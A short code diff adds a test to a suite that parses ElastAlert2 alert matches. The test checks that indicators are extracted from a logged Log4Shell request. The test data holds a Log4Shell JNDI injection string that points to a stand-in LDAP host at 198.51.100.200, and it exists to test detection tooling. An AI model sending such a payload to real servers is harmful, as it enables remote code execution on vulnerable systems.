@@ -68,6 +68,16 @@ describe('what ElastAlert2 sent as raw matches', () => {
     )
     expect(found(alertOf(command[0] ?? {}))).toEqual(expect.arrayContaining(['source ip 198.51.100.23']))
   })
+
+  it('finds where a Log4Shell request called home', () => {
+    expect(found(alertOf(post[1] ?? {}))).toEqual(
+      expect.arrayContaining([
+        `indicator url /?x=\${jndi:ldap://198.51.100.200:1389/a}`,
+        'mentioned url ldap://198.51.100.200:1389/a',
+        'mentioned ip 198.51.100.200',
+      ]),
+    )
+  })
 })
 
 describe('a raw match', () => {
